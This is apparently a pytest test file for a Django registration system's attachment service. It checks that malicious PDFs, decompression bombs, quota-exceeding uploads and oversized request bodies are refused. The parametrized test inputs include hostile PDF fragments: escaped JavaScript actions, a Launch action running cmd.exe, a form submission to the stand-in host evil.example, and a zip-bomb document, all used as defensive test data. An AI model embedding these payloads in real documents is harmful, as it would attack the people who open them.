"""Uploads: each test is an attack on the attachment service or on the request itself.

- a PDF whose JavaScript is spelled with name escapes (``/J#61vaScript``), placed after the
  first chunk, or hidden in a compressed object stream;
- a file name so long that cutting it at 200 characters loses the extension;
- an application flooded with files (no per-owner quota);
- a body far larger than any upload, which must be refused before it is read."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from django.utils import translation

from socorg.core.attachments import attachment_store
from socorg.core.models import Attachment, Role, User
from socorg.core.rule_defaults import load_rule_defaults
from socorg.registration.selectors import applications as selectors
from socorg.registration.services import applications as services
from tests import factories as f
from tests.concurrency import at_once
from tests.core.test_attachments import pdf_bytes, zip_bytes
from tests.registration.conftest import PDF, establishment_data

OWNER = "tests.security_owner"


@pytest.fixture(autouse=True)
def setting_up(db: None, settings: Any, tmp_path: Any) -> Iterator[None]:
    """Rule parameters loaded, uploads in a temporary directory, messages in Chinese."""
    load_rule_defaults()
    settings.MEDIA_ROOT = str(tmp_path)
    with translation.override("zh-hans"):
        yield


@pytest.fixture
def founder(city: Any) -> User:
    """A founders' account: an organization account without an organization yet."""
    return f.user("founder", Role.ORGANIZATION)


def store(actor: Any, name: str, content: bytes, *, owner_id: int = 1) -> Attachment:
    return attachment_store(
        actor=actor,
        upload=SimpleUploadedFile(name, content, content_type="application/pdf"),
        owner_type=OWNER,
        owner_id=owner_id,
        allowed={"pdf"},
    )


def refused(actor: Any, name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as error:
        store(actor, name, content)
    assert not Attachment.objects.exists()
    return " ".join(error.value.messages)


def object_stream_pdf(hidden: bytes) -> bytes:
    """A PDF whose catalog's dictionary sits in a deflated object stream (PDF 1.5)."""
    inner = b"1 0 " + hidden
    stream = zlib.compress(inner)
    body = (
        b"%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(stream)).encode()
        + b" >>\nstream\n"
        + stream
        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    return body


# --- the PDF active-content filter ---------------------------------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /J#53 (x) >>",
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        b"/OpenAction 9 0 R /JS (this.exportDataObject())",
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
        b"/Names << /EmbeddedFiles 8 0 R >>",
        b"/Annots [<< /Subtype /RichMedia >>]",
        b"/AcroForm << /XFA 7 0 R >>",
        b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>",
    ],
)
def test_a_pdf_with_active_content_is_refused_however_it_is_spelled(city_registrar, extra) -> None:
    assert "PDF 文件含有脚本" in refused(city_registrar, "章程.pdf", pdf_bytes(extra))


def test_active_content_after_the_first_chunk_is_refused(city_registrar) -> None:
    padding = b"%" + b"x" * 300_000 + b"\n"
    content = pdf_bytes() + padding + b"9 0 obj\n<< /S /J#61vaScript /JS (1) >>\nendobj\n"
    assert "PDF 文件含有脚本" in refused(city_registrar, "章程.pdf", content)


@pytest.mark.parametrize("split", [1, 5, 9])
def test_an_escaped_name_split_across_two_chunks_is_refused(city_registrar, split) -> None:
    marker = b"/J#61#76#61Script"
    head = pdf_bytes() + b"%" + b"x" * (64 * 1024 - len(pdf_bytes()) - 1 - split)
    content = head + marker + b" (1)\n"
    assert "PDF 文件含有脚本" in refused(city_registrar, "章程.pdf", content)


def test_active_content_inside_a_compressed_object_stream_is_refused(city_registrar) -> None:
    content = object_stream_pdf(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (1) >> >>")
    assert "PDF 文件含有脚本" in refused(city_registrar, "章程.pdf", content)


def test_an_ordinary_pdf_with_a_page_open_action_and_macos_metadata_is_accepted(
    city_registrar,
) -> None:
    content = pdf_bytes(b"/OpenAction [3 0 R /Fit] /AAPL:Keywords [(x)] /URI (http://a.b/) ")
    assert store(city_registrar, "章程.pdf", content).size == len(content)
    assert store(city_registrar, "b.pdf", object_stream_pdf(b"<< /Type /Catalog >>")).pk


def test_an_office_file_that_inflates_like_a_bomb_is_refused(city_registrar) -> None:
    content = docx_bytes_with({"word/document.xml": b"<w:document>" + b"<w:p/>" * 6_000_000})
    assert len(content) < 1024 * 1024
    with pytest.raises(ValidationError) as error:
        attachment_store(
            actor=city_registrar,
            upload=SimpleUploadedFile("说明.docx", content),
            owner_type=OWNER,
            owner_id=1,
            allowed={"docx"},
        )
    assert "解压后的内容过大" in " ".join(error.value.messages)
    assert not Attachment.objects.exists()


def docx_bytes_with(parts: dict[str, bytes]) -> bytes:
    base = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "word/document.xml": b"<w:document/>",
    }
    return zip_bytes({**base, **parts})


# --- display names -------------------------------------------------------------------------------


def test_a_long_file_name_keeps_its_extension(city_registrar) -> None:
    name = "关于" + "日照市社会组织" * 40 + "的章程.pdf"
    stored = store(city_registrar, name, pdf_bytes())
    assert len(stored.original_name) == 200
    assert stored.original_name.startswith("关于日照市") and stored.original_name.endswith(".pdf")


def test_a_long_name_with_an_absurd_extension_is_cut_whole(city_registrar) -> None:
    name = "a" * 150 + "." + "b" * 100 + ".pdf"
    stored = store(city_registrar, name, pdf_bytes())
    assert len(stored.original_name) == 200 and stored.original_name.endswith(".pdf")


# --- the per-owner quota -------------------------------------------------------------------------


def _application(founder_user: Any) -> Any:
    return services.application_create(
        actor=founder_user,
        kind="establishment",
        org_type="social_group",
        jurisdiction_code="371100",
        data=establishment_data(),
    )


def _upload_material(founder_user: Any, app: Any, content: bytes = PDF) -> Any:
    key = next(iter(_material_keys(app)))
    upload = SimpleUploadedFile("材料.pdf", content, content_type="application/pdf")
    return services.material_upload(actor=founder_user, application=app, key=key, upload=upload)


def _material_keys(app: Any) -> list[str]:
    return [row.material.key for row in selectors.material_rows(app)]


def test_an_application_takes_at_most_the_quota_of_files(city, founder, settings) -> None:
    settings.SOCORG_ATTACHMENT_MAX_FILES_PER_OWNER = 3
    app = _application(founder)
    for _ in range(3):
        _upload_material(founder, app)
    with pytest.raises(ValidationError) as error:
        _upload_material(founder, app)
    assert "附件数量已达上限（每项最多 3 个文件）" in " ".join(error.value.messages)
    assert Attachment.objects.filter(owner_id=str(app.pk)).count() == 3
    assert app.materials.count() == 3
    other = _application(founder)
    assert _upload_material(founder, other).pk


def test_an_application_takes_at_most_the_quota_of_bytes(city, founder, settings) -> None:
    settings.SOCORG_ATTACHMENT_MAX_BYTES_PER_OWNER = 3 * len(pdf_bytes())
    app = _application(founder)
    for _ in range(3):
        _upload_material(founder, app, pdf_bytes())
    with pytest.raises(ValidationError) as error:
        _upload_material(founder, app, pdf_bytes())
    assert "附件总大小将超过上限" in " ".join(error.value.messages)
    assert Attachment.objects.filter(owner_id=str(app.pk)).count() == 3


def test_the_refused_file_leaves_nothing_in_storage(city, founder, settings, tmp_path) -> None:
    settings.SOCORG_ATTACHMENT_MAX_FILES_PER_OWNER = 1
    app = _application(founder)
    _upload_material(founder, app)
    with pytest.raises(ValidationError):
        _upload_material(founder, app)
    assert len([p for p in tmp_path.rglob("*.pdf")]) == 1


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(connection.vendor != "postgresql", reason="concurrent writers need PostgreSQL")
def test_concurrent_uploads_cannot_pass_the_quota_together(city_registrar, settings) -> None:
    settings.SOCORG_ATTACHMENT_MAX_FILES_PER_OWNER = 2
    store(city_registrar, "1.pdf", pdf_bytes(), owner_id=7)
    results = at_once(
        [lambda: store(city_registrar, "2.pdf", pdf_bytes(), owner_id=7) for _ in range(4)]
    )
    assert sum(isinstance(r, Attachment) for r in results) == 1, results
    assert all(isinstance(r, Attachment | ValidationError) for r in results), results
    assert Attachment.objects.filter(owner_type=OWNER, owner_id="7").count() == 2


# --- oversized bodies ------------------------------------------------------------------------------


class UnreadableBody:
    """A request body that fails the test if anything reads it."""

    def read(self, *args: Any) -> bytes:
        raise AssertionError("the oversized body was read")

    readline = read


def test_a_declared_oversized_body_is_refused_with_413_before_it_is_read(
    client, city, founder, settings
) -> None:
    settings.SOCORG_REQUEST_MAX_BYTES = 1024 * 1024
    app = _application(founder)
    client.force_login(founder)
    response = client.generic(
        "POST",
        reverse("registration:material_upload", args=[app.pk]),
        b"x",
        content_type="multipart/form-data; boundary=BoUnDaRy",
        CONTENT_LENGTH=str(5 * 1024 * 1024 * 1024),
        **{"wsgi.input": UnreadableBody()},
    )
    assert response.status_code == 413
    assert "提交的内容过大（上限 1.0 MB）" in response.content.decode()
    assert not Attachment.objects.exists()


def test_an_oversized_upload_is_refused_with_413_and_nothing_is_stored(
    client, city, founder, settings
) -> None:
    settings.SOCORG_REQUEST_MAX_BYTES = 256 * 1024
    app = _application(founder)
    client.force_login(founder)
    big = pdf_bytes() + b"%" + b"x" * (300 * 1024) + b"\n"
    response = client.post(
        reverse("registration:material_upload", args=[app.pk]),
        {"key": _material_keys(app)[0], "file": SimpleUploadedFile("大文件.pdf", big)},
    )
    assert response.status_code == 413
    assert "提交的内容过大" in response.content.decode()
    assert not Attachment.objects.exists()


def test_the_api_answers_an_oversized_body_with_json_413(client, city, founder, settings) -> None:
    settings.SOCORG_REQUEST_MAX_BYTES = 1024
    client.force_login(founder)
    response = client.post("/api/v1/applications", "x" * 4096, content_type="application/json")
    assert response.status_code == 413
    assert "提交的内容过大" in response.json()["detail"]


def test_an_upload_under_the_limit_still_goes_through(client, city, founder, settings) -> None:
    app = _application(founder)
    client.force_login(founder)
    response = client.post(
        reverse("registration:material_upload", args=[app.pk]),
        {"key": _material_keys(app)[0], "file": SimpleUploadedFile("章程.pdf", pdf_bytes())},
    )
    assert response.status_code == 302
    assert Attachment.objects.filter(owner_id=str(app.pk)).count() == 1


def test_form_fields_and_json_bodies_are_held_to_a_small_limit(settings) -> None:
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024
    assert settings.SOCORG_REQUEST_MAX_BYTES > settings.SOCORG_UPLOAD_MAX_BYTES
